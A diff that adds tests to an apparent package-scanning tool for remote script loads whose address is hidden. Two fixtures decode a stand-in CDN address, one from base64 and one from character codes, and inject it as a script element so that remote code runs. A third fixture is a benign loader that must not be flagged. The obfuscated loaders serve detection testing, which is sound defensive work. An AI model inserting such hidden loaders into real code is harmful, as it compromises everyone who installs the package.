@@ -599,3 +599,41 @@ for f in dist/*.map; do : > "$f"; done`,
     ).not.toBe('critical');
   });
 });
+
+describe('remote scripts whose address is hidden', () => {
+  const ruleIds = (files: Record<string, string>) => analyzeSource(files).evidence.map((f) => f.rule);
+  it('an address decoded from base64 assigned to a script element', () => {
+    expect(
+      ruleIds({
+        'package.json': pkg(),
+        'index.js': `(function () { var u = atob('aHR0cHM6Ly9zdGF0aWMuY2RuLmV4YW1wbGUvdi5qcw=='); var s = document.createElement('script'); s.src = u; document.head.appendChild(s); })();`,
+      }),
+    ).toContain('js.decoded-remote-script');
+  });
+  it('char codes turned into the address by a helper without arguments, set with setAttribute', () => {
+    expect(
+      ruleIds({
+        'package.json': pkg(),
+        'index.js': `const codes = [104,116,116,112,115,58,47,47,99,100,110,46,101,120,97,109,112,108,101,47,120,46,106,115];
+function addr() { return String.fromCharCode.apply(null, codes); }
+export function init() { const tag = document.createElement('script'); tag.setAttribute('src', addr()); document.body.appendChild(tag); }`,
+      }),
+    ).toContain('js.decoded-remote-script');
+  });
+  it('loaders with a plain address built from options, and decoded configuration, stay quiet', () => {
+    expect(
+      threatsOf(
+        analyzeSource({
+          'package.json': pkg(),
+          'index.js': `export function load(opts) {
+  const cfg = JSON.parse(atob(opts.config || 'e30='));
+  const s = document.createElement('script');
+  s.setAttribute('src', 'https://js.payments.example/v3/' + (cfg.version || 'latest') + '.js');
+  s.async = true;
+  document.head.appendChild(s);
+}`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
